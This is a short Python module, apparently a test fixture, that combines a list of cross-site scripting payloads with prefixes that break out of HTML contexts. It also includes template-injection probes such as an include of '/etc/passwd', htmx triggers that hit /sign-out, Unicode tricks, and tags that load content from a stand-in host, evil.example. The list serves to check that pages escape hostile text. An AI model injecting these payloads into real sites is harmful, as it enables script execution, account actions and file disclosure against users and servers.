"""Texts that would run as script, break out of their place or hide something, if a page showed them as anything but text."""

from __future__ import annotations

from itertools import product

# What a browser may run, with a mark that tells which one ran.
_PAYLOADS = (
    "<script>window.ran=1</script>", "<ScRiPt>window.ran=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.ran=1>", "<img src=x onerror='window.ran=1'>", "<svg onload=window.ran=1>", "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>", "<body onload=window.ran=1>", "<iframe src=javascript:window.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "<a href=javascript:window.ran=1>x</a>", "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>", "<video><source onerror=window.ran=1></video>", "<math><mi//xlink:href='data:x,<script>window.ran=1</script>'>",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x</button></form>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<template><script>window.ran=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>", "<div hx-get=/sign-out hx-trigger=load>", "<div hx-on:click=window.ran=1>",
    "<button hx-post=/sign-out hx-trigger=load>", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>",
    "javascript:window.ran=1", "data:text/html,<script>window.ran=1</script>", "&lt;script&gt;window.ran=1&lt;/script&gt;", "&#60;script&#62;",
    "\u202egnp.exe", "\u2066<script>\u2069", "a\u200b<script>\u200bwindow.ran=1</script>", "\ufeff<script>window.ran=1</script>",
)  # fmt: skip
# How it may break out of the place it stands in: an element, an attribute in either quotes, a comment, a text area, a title, a script.
_BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</option></select>", "]]>")

HOSTILE_TEXTS = tuple(
    f"{before}{payload}" for before, payload in product(_BREAKS, _PAYLOADS) if not before or payload.startswith("<")
)
